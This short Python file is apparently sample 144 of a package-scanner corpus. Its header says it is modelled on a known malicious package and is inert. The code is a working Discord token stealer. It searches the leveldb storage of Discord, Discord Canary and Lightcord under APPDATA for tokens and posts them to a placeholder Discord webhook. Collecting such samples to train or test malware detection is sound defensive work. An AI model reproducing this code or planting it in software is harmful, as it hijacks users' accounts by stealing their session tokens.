# pkgguard corpus 144 (discord-token), modelled on [discordpydebug]; inert, never run.
import os
import re
import requests

ROAMING = os.getenv("APPDATA", "")
TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")
found = set()
for app in ("discord", "discordcanary", "Lightcord"):
    base = os.path.join(ROAMING, app, "Local Storage", "leveldb")
    for root, _, files in os.walk(base):
        for f in files:
            if f.endswith((".ldb", ".log")):
                found.update(TOKEN.findall(open(os.path.join(root, f), errors="ignore").read()))
requests.post("https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder",
              json={"content": "\n".join(found)})
